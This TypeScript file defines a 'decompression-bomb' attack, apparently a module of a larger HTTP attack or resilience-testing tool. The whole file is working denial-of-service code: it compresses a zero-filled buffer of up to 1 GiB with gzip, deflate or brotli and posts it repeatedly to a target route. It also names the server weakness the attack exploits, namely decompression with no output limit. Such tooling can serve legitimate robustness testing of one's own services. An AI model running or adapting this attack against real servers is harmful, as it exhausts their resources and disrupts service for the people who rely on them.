import zlib from 'node:zlib';
import { z } from 'zod';
import type { AttackDefinition } from './attack.ts';
import { createHttpAttacker } from './http-attacker.ts';
import { pace } from './pace.ts';

export interface DecompressionBombSettings {
  /** Path the body is posted to. Default `/upload`. */
  readonly path: string;
  /** Coding of the body. Default `gzip`, about 1000 : 1; `br` packs far tighter. */
  readonly encoding: 'gzip' | 'deflate' | 'br';
  /** Size of the body once unpacked, in MiB. Default 16. 1 to 1024. */
  readonly inflatedMiB: number;
  /** Send over kept-alive connections (default) or a new one each time. */
  readonly keepAlive: boolean;
}

const compressors: Readonly<Record<DecompressionBombSettings['encoding'], (body: Buffer) => Buffer>> = {
  gzip: (body) => zlib.gzipSync(body, { level: 9 }),
  deflate: (body) => zlib.deflateSync(body, { level: 9 }),
  br: (body) => zlib.brotliCompressSync(body, { params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 5 } }),
};

/** A small body that unpacks to a large one. */
export const decompressionBomb: AttackDefinition<'decompression-bomb'> = {
  name: 'decompression-bomb',
  title: 'Posts a small compressed body that unpacks to a thousand times its size.',
  needs: [
    'A route that unpacks bodies with a `content-encoding`.',
    'No bound on what comes out (`maxOutputLength`, or a limit while streaming); Node sets none.',
  ],
  exhausts: 'cpu',
  settings: z.strictObject({
    path: z.string().startsWith('/').default('/upload'),
    encoding: z.enum(['gzip', 'deflate', 'br']).default('gzip'),
    inflatedMiB: z.int().min(1).max(1024).default(16),
    keepAlive: z.boolean().default(true),
  }),
  prepare({ path, encoding, inflatedMiB, keepAlive }) {
    const body = compressors[encoding](Buffer.alloc(inflatedMiB * 1024 * 1024));
    const headers = { 'content-encoding': encoding, 'content-type': 'application/octet-stream' };
    return (context) => {
      const attacker = createHttpAttacker(context, { keepAlive });
      const fire = (): Promise<boolean> => attacker.send({ method: 'POST', path, headers, body });
      return pace(context, fire).finally(() => attacker.close());
    };
  },
};
